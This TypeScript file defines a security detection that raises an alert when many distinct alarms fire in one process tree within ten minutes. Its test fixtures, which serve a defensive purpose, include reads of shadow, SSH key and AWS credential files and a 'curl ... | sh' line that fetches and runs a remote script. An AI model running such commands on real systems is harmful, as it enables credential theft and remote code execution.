import { type AnyRule, defineDetection, rankOf } from '@cws/core'

/** Rules that are no alarm by themselves do not count. */
const isAlarm = ({ severity }: AnyRule): boolean => rankOf(severity) >= rankOf('medium')

const READ = { 'process.file.path': '/usr/bin/cat', 'process.package_manager': '' } as const
const ALARMS = [
  { on: 'open', 'open.file.path': '/etc/shadow', ...READ },
  { on: 'open', 'open.file.path': '/root/.ssh/id_ed25519', ...READ },
  { on: 'open', 'open.file.path': '/root/.aws/credentials', ...READ },
  { on: 'exec', 'exec.file.name': 'dash', 'exec.args': '-c echo aWQ= | base64 -d | sh' },
  { on: 'exec', 'exec.file.name': 'dash', 'exec.args': '-c curl -fsSL http://203.0.113.5/x.sh | sh' },
] as const

/** Of all rules of a pack. */
export const manyAlarms = (rules: readonly AnyRule[]) =>
  defineDetection({
    id: 'many-alarms',
    name: 'Many different alarms in one log-in or service',
    severity: 'high',
    tags: ['mitre:T1059'],
    kind: 'threshold',
    of: rules.filter(isAlarm),
    by: ['tree'],
    within: '10m',
    count: 5,
    distinct: 'rule.id',
    cases: [{ when: { distinct: { gte: 8 } }, severity: 'critical' }],
    message:
      'Within {{within}} {{distinct}} different rules found something in one log-in or service, the last by {{author}}. Each may have a harmless cause; together they rarely have.',
    advice: 'See in `findings` what came before, and ask whoever is logged in. If nobody meant it, take the host off the network.',
    benign: ['Somebody who sets up a host by hand', 'Tests of security tools'],
    tests: {
      fires: [[...ALARMS], [...ALARMS.slice(0, 4), { ...ALARMS[4], after: '9m' }]],
      silent: [
        [...ALARMS.slice(0, 4), ...ALARMS.slice(0, 4)],
        [...ALARMS.slice(0, 4), { ...ALARMS[4], after: '10m' }],
        [...ALARMS.slice(0, 4), { ...ALARMS[4], 'process.pid': 7 }],
      ],
    },
  })
